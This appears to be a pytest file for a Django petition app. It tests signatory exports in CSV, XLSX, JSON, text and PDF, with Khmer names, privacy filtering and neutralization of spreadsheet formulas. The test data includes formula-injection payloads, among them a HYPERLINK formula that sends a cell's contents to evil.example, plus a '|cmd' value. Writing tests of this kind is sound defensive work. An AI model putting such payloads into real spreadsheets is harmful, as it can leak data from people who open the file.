"""Signatory lists in each format, from signatures made by the real services: content, headers,
formula neutralization for each leading character, and Khmer, French, quoted and formula-looking
names read back byte for byte."""

import csv
import datetime
import io
import json
import subprocess

import pytest
from defusedcsv import csv as defusedcsv
from django.utils import translation
from openpyxl import load_workbook

from letters_app.exports import signatures as exports
from letters_app.models import Signature
from letters_app.services.signatures import signature_add, signature_confirm
from tests.exports.pdf_reading import (
    KHMER_COENG,
    KHMER_SWITZERLAND,
    KHMER_TRIISAP,
    SIGNATORY_NAMES,
    fonts_of,
    unreadable,
)
from tests.factories import SignatureFactory

pytestmark = pytest.mark.django_db

KHMER = "សមាគមខ្មែរដើម្បីសិទ្ធិមនុស្ស"
FRENCH = "Collectif des Amis du Cambodge d'Île-de-France"
QUOTED = 'Friends of "Khmer" Culture, Inc.'
# One name for each character a spreadsheet reads as the start of a formula.
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+33 Collectif", "-1+2",
            "@SUM(A1:A9)", "\tTabbed Association", "\rCarriage Association",
            "|cmd Association", "%Percent Association", "'=Already quoted"]  # fmt: skip
DANGEROUS = tuple("=+-@\t\r\0|%")


def sign(letter, n, **fields):
    fields = {"consent_public": True, "kind": Signature.Kind.ORGANIZATION, "country": "FR",
              **fields}  # fmt: skip
    signature, _created = signature_add(letter=letter, email=f"signer{n}@example.org", **fields)
    signature_confirm(signature=signature)
    signature.refresh_from_db()
    return signature


@pytest.fixture
def signed(open_letter):
    """The open letter signed by organizations with awkward names, an individual, an MP; one
    signer who did not confirm and one who did not want to be listed."""
    open_letter.accepts_individuals = open_letter.accepts_mps = True
    open_letter.save(update_fields=["accepts_individuals", "accepts_mps"])
    sign(open_letter, 0, name="Association TEP NIMITH", acronym="ATN")
    sign(open_letter, 1, name=KHMER, acronym="សខស", country="KH")
    sign(open_letter, 2, name=FRENCH, contact_name="Élise Dumont")
    sign(open_letter, 3, name=QUOTED)
    for i, name in enumerate(FORMULAS, start=10):
        sign(open_letter, i, name=name)
    sign(open_letter, 30, kind=Signature.Kind.INDIVIDUAL, name="Sok Dara", title="Researcher",
         affiliation="Université de Paris", country="KH")  # fmt: skip
    sign(open_letter, 31, kind=Signature.Kind.MP, name="Élise Chan", title="Députée",
         party="Les Verts", country="FR")  # fmt: skip
    SignatureFactory(letter=open_letter, name="Pending Person", email="pending@example.org")
    sign(open_letter, 32, name="Quiet Association", consent_public=False)
    return open_letter


def public(letter, **filters):
    return exports.signature_queryset(letters=[letter], private=False, **filters)


def private(letter, **filters):
    return exports.signature_queryset(letters=[letter], private=True, **filters)


def csv_rows(queryset, *, private_columns=False, bom=False) -> tuple[bytes, list[list[str]]]:
    columns = exports.export_columns(private=private_columns)
    raw = b"".join(exports.csv_stream(queryset, columns, bom=bom))
    text = raw.decode("utf-8-sig")
    return raw, list(csv.reader(io.StringIO(text, newline="")))


def test_the_formula_rule_neutralizes_each_leading_character_and_undoes_itself():
    for char in DANGEROUS:
        value = f"{char}1+1 Association"
        assert exports.formula_neutralize(value) == "'" + value
        assert exports.formula_restore(exports.formula_neutralize(value)) == value
    for value in ["Association", "'t Hooft Foundation", "''x", "", "ATN", "1-2"]:
        assert exports.formula_neutralize(value) == value
        assert exports.formula_restore(value) == value
    assert exports.formula_neutralize("'=x") == "''=x"
    assert exports.formula_restore("''=x") == "'=x"


def test_csv_has_the_public_columns_and_the_public_list_in_order(signed):
    raw, rows = csv_rows(public(signed))

    header, body = rows[0], rows[1:]
    assert header == [c.key for c in exports.PUBLIC_COLUMNS]
    assert "email" not in header and "contact_name" not in header
    assert len(body) == 4 + len(FORMULAS) + 2  # not the pending one, not the unlisted one
    first = dict(zip(header, body[0], strict=True))
    assert first["n"] == "1"
    assert (first["name"], first["acronym"], first["kind"]) == ("Association TEP NIMITH", "ATN",
                                                                 "organization")  # fmt: skip
    assert (first["country"], first["country_name"]) == ("FR", "France")
    assert first["version"] == "1"
    assert datetime.datetime.fromisoformat(first["published_at"]).tzinfo is not None
    assert [r[0] for r in body] == [str(n) for n in range(1, len(body) + 1)]
    assert b"@example.org" not in raw
    assert b"Pending Person" not in raw and b"Quiet Association" not in raw


def test_csv_is_rfc_4180_with_crlf_doubled_quotes_and_an_optional_bom(signed):
    raw, _rows = csv_rows(public(signed))
    with_bom, _rows = csv_rows(public(signed), bom=True)

    assert not raw.startswith(b"\xef\xbb\xbf")
    assert with_bom.startswith(b"\xef\xbb\xbf") and with_bom[3:] == raw
    assert raw.startswith(b"n,kind,name,")
    assert raw.endswith(b"\r\n")
    assert b'"Friends of ""Khmer"" Culture, Inc."' in raw
    assert KHMER.encode() in raw  # UTF-8 as it is


def test_csv_neutralizes_every_formula_and_reads_back_byte_for_byte(signed):
    _raw, rows = csv_rows(public(signed))
    names = [r[2] for r in rows[1:]]

    for name in names:
        assert not name.startswith(DANGEROUS), name
    for formula in FORMULAS:
        assert "'" + formula in names
    restored = [exports.formula_restore(n) for n in names]
    expected = list(public(signed).values_list("name", flat=True))
    assert restored == expected
    assert {KHMER, FRENCH, QUOTED, *FORMULAS} <= set(restored)


def test_defusedcsv_finds_nothing_left_to_defuse(signed):
    raw, rows = csv_rows(private(signed), private_columns=True)
    again = io.StringIO(newline="")
    defusedcsv.writer(again, dialect="excel").writerows(rows)

    assert again.getvalue().encode() == raw


def test_private_csv_has_every_signature_with_its_private_columns(signed):
    _raw, rows = csv_rows(private(signed), private_columns=True)

    header = rows[0]
    assert header == [c.key for c in exports.PUBLIC_COLUMNS + exports.PRIVATE_COLUMNS]
    by_name = {r[2]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert len(by_name) == Signature.objects.filter(letter=signed).count()
    assert by_name["Pending Person"]["status"] == "pending"
    assert by_name["Pending Person"]["email"] == "pending@example.org"
    assert by_name["Quiet Association"]["is_public"] == "False"
    assert by_name[FRENCH]["contact_name"] == "Élise Dumont"
    assert by_name[FRENCH]["email"] == "signer2@example.org"
    assert by_name[FRENCH]["email_domain"] == "example.org"


def test_filters_narrow_the_list(signed):
    def names(qs):
        return set(qs.values_list("name", flat=True))

    assert names(public(signed, kind=["mp"])) == {"Élise Chan"}
    assert names(public(signed, kind=["individual", "mp"])) == {"Sok Dara", "Élise Chan"}
    assert names(public(signed, country=["KH"])) == {KHMER, "Sok Dara"}
    assert names(private(signed, status=["pending"])) == {"Pending Person"}
    assert public(signed, version=1).count() == public(signed).count()
    assert not public(signed, version=2).exists()
    now = datetime.datetime.now(datetime.UTC)
    assert not public(signed, signed_from=now + datetime.timedelta(hours=1)).exists()
    assert not public(signed, signed_before=now - datetime.timedelta(hours=1)).exists()
    assert public(signed, signed_from=now - datetime.timedelta(hours=1)).count() == 15


def test_xlsx_holds_text_never_a_formula_and_reads_back(signed):
    columns = exports.export_columns(private=False)
    out = io.BytesIO()
    exports.xlsx_write(public(signed), columns, out, title=signed.title)

    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == [c.key for c in columns]
    assert all(c.data_type != "f" for row in rows for c in row)
    names = [row[2].value for row in rows[1:]]
    assert "'" + FORMULAS[0] in names
    assert rows[1][0].value == 1
    restored = [exports.formula_restore(n) for n in names]
    expected = list(public(signed).values_list("name", flat=True))
    # XML reads a bare CR as a line feed (XML 1.0, 2.11) unless it is written as &#13;, which
    # openpyxl does when lxml is installed (a dependency of pikepdf): kept, or the one character
    # XLSX cannot keep.
    assert {"'\nCarriage Association", "\rCarriage Association"} & set(restored)
    cr = expected.index("\rCarriage Association")
    assert restored[:cr] + restored[cr + 1 :] == expected[:cr] + expected[cr + 1 :]
    assert {KHMER, FRENCH, QUOTED, *FORMULAS[:5], *FORMULAS[6:]} <= set(restored)


def test_json_is_an_array_of_raw_values(signed):
    columns = exports.export_columns(private=False)
    data = json.loads(b"".join(exports.json_stream(public(signed), columns)))

    assert [list(d) for d in data[:1]] == [[c.key for c in columns]]
    assert data[0]["n"] == 1 and data[0]["name"] == "Association TEP NIMITH"
    assert [d["name"] for d in data] == list(public(signed).values_list("name", flat=True))
    assert FORMULAS[0] in [d["name"] for d in data]  # no spreadsheet: nothing to neutralize
    assert "email" not in data[0]


def test_json_of_an_empty_list_is_an_empty_array(open_letter):
    columns = exports.export_columns(private=True)
    assert json.loads(b"".join(exports.json_stream(public(open_letter), columns))) == []


def test_text_is_numbered_as_the_seed_letters_list_signatories(signed):
    text = b"".join(exports.text_stream(public(signed))).decode()

    lines = text.splitlines()
    assert lines[0] == "1. Association TEP NIMITH (ATN), France"
    assert lines[1] == f"2. {KHMER} (សខស), Cambodia"
    assert "14. Sok Dara, Researcher, Université de Paris, Cambodia" in lines
    assert "15. Élise Chan, Députée, Les Verts, France" in lines


def test_pdf_lists_the_numbered_names_with_khmer(signed, tmp_path):
    pdf = exports.pdf_bytes(public(signed), title=signed.title)

    assert pdf.startswith(b"%PDF")
    path = tmp_path / "list.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout  # fmt: skip
    assert "1. Association TEP NIMITH (ATN), France" in text
    assert FRENCH in text
    assert {name for name, _embedded in fonts_of(pdf)} == {
        "Cosign-Serif", "Cosign-Serif-Bold", "Cosign-Serif-Khmer", "Cosign-Sans",
    }  # fmt: skip


@pytest.mark.parametrize("language", ["en", "fr", "km"])
def test_pdf_names_read_back_as_written_whatever_the_interface_language(open_letter, language):
    for n, name in enumerate(SIGNATORY_NAMES):
        sign(open_letter, n, name=name, country="KH")
    sign(open_letter, 99, name=f"{KHMER_SWITZERLAND} {KHMER_COENG}", country="CH")

    with translation.override(language):  # the heading and the date are in the viewer's
        pdf = exports.pdf_bytes(public(open_letter), title=open_letter.title)
        lines = list(exports.signature_lines(public(open_letter)))

    assert len(lines) == len(SIGNATORY_NAMES) + 1
    assert unreadable(pdf, lines) == []


def test_pdf_names_drawn_with_the_same_glyphs_read_back_as_each_was_typed(open_letter):
    # The Khmer face draws ៊ before ី as it draws ុ: ស៊ី and សុី (as many type it) look the same.
    names = [KHMER_TRIISAP, "សមាគមសុីវិលខ្មែរ", "ស្វ៊ីស", "សុីសុវត្ថិភាព"]
    for n, name in enumerate(names):
        sign(open_letter, n, name=name, country="KH")

    pdf = exports.pdf_bytes(public(open_letter), title=open_letter.title)

    lines = list(exports.signature_lines(public(open_letter)))
    assert unreadable(pdf, lines) == []


def test_across_letters_each_row_names_its_letter(signed, coordinator):
    columns = exports.export_columns(private=False, across_letters=True)
    qs = exports.signature_queryset(private=False)
    rows = list(exports.signature_rows(qs, columns))

    assert [c.key for c in columns][:3] == ["n", "letter", "kind"]
    assert {r[1] for r in rows} == {signed.slug}
